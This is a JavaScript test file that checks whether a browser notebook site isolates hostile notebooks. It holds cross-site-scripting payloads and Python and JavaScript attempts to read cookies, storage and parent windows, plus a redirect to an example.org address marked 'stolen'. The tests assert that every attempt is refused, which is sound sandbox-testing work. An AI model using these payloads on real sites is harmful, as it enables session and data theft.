// Hostile documents: neither Python nor an HTML output reaches the page's storage, its interface, or another document.

import assert from "node:assert/strict";
import { describe, it } from "node:test";

import { useSite } from "./harness/site.mjs";

/** An attempt that succeeds, which shows that the others were made. */
const CONTROL = "the time of day";

/** What an attacker would try from JavaScript; each entry but the control must fail. */
const attempts = {
  [CONTROL]: "Date.now()",
  "the page's localStorage": "localStorage.getItem('x')",
  "the page's sessionStorage": "sessionStorage.getItem('x')",
  "the page's IndexedDB": "indexedDB.open('carrel')",
  "the page's cookies": "document.cookie",
  "the page's caches": "await caches.keys()",
  "the parent's window.carrel": "parent.carrel.notebook()",
  "the top window's window.carrel": "top.carrel.notebook()",
  "the parent's document": "parent.document.body.innerHTML",
  "the top window's storage": "top.localStorage.getItem('x')",
  "another host": "await fetch('https://example.org/')",
  "the site's own files": "await fetch(new URL('kernel/manifest.json', 'SITE'))",
};

/** A script that makes every attempt and writes down how each went. */
function attack(siteUrl) {
  const lines = Object.entries(attempts).map(([name, code]) => {
    const quoted = JSON.stringify(name);
    return `try { ${code.replace("SITE", siteUrl)}; log[${quoted}] = "reached"; } catch (error) { log[${quoted}] = "refused"; }`;
  });
  return `const log = {};\n${lines.join("\n")}`;
}

/** The attempts of `made` that were not refused; all must have been made. */
function reachedIn(log, made) {
  assert.deepEqual(Object.keys(log), Object.keys(made));
  return Object.keys(log).filter((name) => log[name] !== "refused");
}

/** What an attacker would try from Python, where the browser is the module `js`; each entry but the control must fail. */
const pythonAttempts = {
  [CONTROL]: "js.Date.now()",
  "the page's localStorage": "js.localStorage.getItem('x')",
  "the page's IndexedDB": "js.indexedDB.open('carrel')",
  "the page's caches": "run_sync(js.caches.keys())",
  "the page's window.carrel": "js.carrel.notebook()",
  "the parent's window.carrel": "js.parent.carrel.notebook()",
  "the top window's window.carrel": "js.top.carrel.notebook()",
  "the page's document": "js.document.body",
  "another host": "run_sync(js.fetch('https://example.org/'))",
  "another host, by import": "js.importScripts('https://example.org/x.js')",
  "the site's own files": "run_sync(js.fetch('SITEkernel/manifest.json'))",
};

function pythonAttack(siteUrl) {
  const lines = Object.entries(pythonAttempts).map(([name, code]) => {
    const quoted = JSON.stringify(name);
    return `try:\n    ${code.replace("SITE", siteUrl)}\n    log[${quoted}] = "reached"\nexcept Exception as error:\n    log[${quoted}] = "refused"`;
  });
  return `import js, json\nfrom pyodide.ffi import run_sync\nlog = {}\n${lines.join("\n")}\nprint(json.dumps(log))`;
}

describe("a hostile document", () => {
  const site = useSite();

  it("runs nothing on opening", async () => {
    const page = await site.open();
    const html = "<img src=x onerror=\"document.title='hostile'\"><script>document.title='hostile'</script>";
    const output = { output_type: "display_data", data: { "text/html": html }, metadata: {} };
    const cells = [
      { cell_type: "code", id: "code", source: "ran = True", metadata: { trusted: true }, outputs: [output], execution_count: 1 },
      { cell_type: "markdown", id: "prose", source: `# Title\n\n${html}\n\n[link](javascript:document.title='hostile')`, metadata: {} },
    ];
    await page.open({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells }, { name: "hostile.ipynb" });
    await page.cell(1).waitFor();
    await page.page.waitForTimeout(500);
    assert.notEqual(await page.page.title(), "hostile");
    assert.equal(await page.page.locator("a[href^='javascript:']").count(), 0);
    await page.close();
  });

  it("cannot reach the page from Python", async () => {
    const page = await site.open();
    await page.newNotebook();
    const code = pythonAttack(site.url);
    await page.runCell(0, code);
    assert.deepEqual(reachedIn(JSON.parse(await page.outputText(0)), pythonAttempts), [CONTROL]);
    await page.close();
  });

  it("cannot reach the page from an HTML output", async () => {
    const page = await site.open();
    await page.newNotebook();
    const html = `<p id="log">…</p><script type="module">\n${attack(site.url)}\ndocument.getElementById("log").textContent = JSON.stringify(log);</script>`;
    await page.runCell(0, `from IPython.display import HTML, display\ndisplay(HTML(${JSON.stringify(html)}))`);
    const log = page.outputFrame(0).locator("#log");
    await log.filter({ hasText: "{" }).waitFor();
    assert.deepEqual(reachedIn(JSON.parse(await log.textContent()), attempts), [CONTROL]);
    await page.screenshot("hostile-output");
    await page.close();
  });

  it("cannot send an HTML output's frame to another address", async () => {
    const page = await site.open();
    const requested = [];
    page.page.on("request", (request) => requested.push(request.url()));
    await page.newNotebook();
    // On a press, so that it was seen before: a frame whose leaving was refused shows the browser's own page instead.
    const html = "<p>here</p><script>document.querySelector('p').onclick = () => { location.href = 'https://example.org/?stolen'; }</script>";
    await page.runCell(0, `from IPython.display import HTML, display\ndisplay(HTML(${JSON.stringify(html)}))`);
    await page.outputFrame(0).locator("p").click();
    await page.outputFrame(0).locator("p").waitFor({ state: "detached" });
    await page.page.waitForTimeout(1000);
    assert.deepEqual(requested.filter((url) => url.includes("example.org")), []);
    await page.close();
  });
});
